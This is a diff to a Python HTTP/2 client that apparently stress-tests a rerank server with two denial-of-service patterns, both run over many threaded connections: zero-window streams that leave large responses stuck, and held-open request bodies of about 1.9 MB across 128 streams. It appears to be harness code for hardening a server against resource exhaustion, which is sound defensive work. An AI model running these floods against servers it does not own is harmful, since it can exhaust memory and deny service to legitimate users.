@@ -17,6 +17,7 @@ import time
 import h2.config
 import h2.connection
 import h2.events
+import h2.exceptions
 import h2.settings
 
 
@@ -62,41 +63,44 @@ class Client:
             self.closed_at = self.closed_at or time.time()
 
 
-def zero_window(port):
-    c = Client(port, window=0)
+def zero_window(c):
     documents = ["rainbow light water " * 2500] * 8  # ~400 kB of documents returned per response
     body = json.dumps({"query": "rainbows", "documents": documents, "return_documents": True}).encode()
     for _ in range(128):
         sid = c.conn.get_next_available_stream_id()
         c.conn.send_headers(sid, [(":method", "POST"), (":path", "/v1/rerank"), (":scheme", "http"),
                                   (":authority", "abuse"), ("content-type", "application/json")])
-        # The server's window for our bodies is 1 MiB per stream, so each body fits.
-        c.conn.send_data(sid, body, end_stream=True)
-        c.flush()
-        c.poll()
+        send_body(c, sid, body, end=True)
     return c
 
 
-def held_bodies(port):
-    c = Client(port)
-    chunk = b"x" * 16384
+def send_body(c, sid, body, end):
+    """Sends as much of `body` as the windows allow, waiting for WINDOW_UPDATEs; gives up on a stream
+    the server stopped reading."""
+    sent, stalls = 0, 0
+    while sent < len(body) and c.closed_at is None:
+        window = min(c.conn.local_flow_control_window(sid), c.conn.max_outbound_frame_size, len(body) - sent)
+        if window == 0:
+            c.poll()
+            stalls += 1
+            if stalls > 20:
+                return
+            continue
+        stalls = 0
+        last = end and sent + window == len(body)
+        c.conn.send_data(sid, body[sent:sent + window], end_stream=last)
+        sent += window
+        c.flush()
+    c.poll()
+
+
+def held_bodies(c):
+    body = b"x" * 1_900_000
     for _ in range(128):
         sid = c.conn.get_next_available_stream_id()
         c.conn.send_headers(sid, [(":method", "POST"), (":path", "/rerank"), (":scheme", "http"),
                                   (":authority", "abuse"), ("content-type", "application/json")])
-        sent = 0
-        while sent < 1_900_000 and c.closed_at is None:
-            window = min(c.conn.local_flow_control_window(sid), c.conn.max_outbound_frame_size)
-            if window == 0:
-                c.poll()
-                if c.conn.local_flow_control_window(sid) == 0:
-                    break  # the server stopped reading this stream: move on
-                continue
-            piece = chunk[:window]
-            c.conn.send_data(sid, piece)
-            sent += len(piece)
-            c.flush()
-        c.poll()
+        send_body(c, sid, body, end=False)
     return c
 
 
@@ -110,9 +114,13 @@ def main():
     lock = threading.Lock()
 
     def open_one():
-        client = (zero_window if mode == "zero-window" else held_bodies)(port)
+        client = Client(port, window=0 if mode == "zero-window" else None)
         with lock:
             clients.append(client)
+        try:
+            (zero_window if mode == "zero-window" else held_bodies)(client)
+        except (OSError, h2.exceptions.ProtocolError):
+            client.closed_at = client.closed_at or time.time()  # the server cut the connection mid-attack
 
     threads = [threading.Thread(target=open_one) for _ in range(connections)]
     for t in threads:
